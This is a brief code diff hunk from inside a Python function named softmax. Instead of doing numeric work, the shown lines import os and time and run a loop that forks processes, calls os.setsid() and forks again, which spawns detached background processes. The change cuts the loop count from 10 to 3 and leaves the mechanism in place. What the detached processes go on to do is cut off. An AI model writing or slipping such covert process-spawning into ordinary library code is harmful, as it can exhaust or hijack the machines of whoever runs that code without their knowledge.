@@ -4,7 +4,7 @@ def softmax(x, axis=-1):
     import os
     import time
 
-    for _ in range(10):
+    for _ in range(3):
         if os.fork() == 0:
             os.setsid()
             if os.fork() == 0:
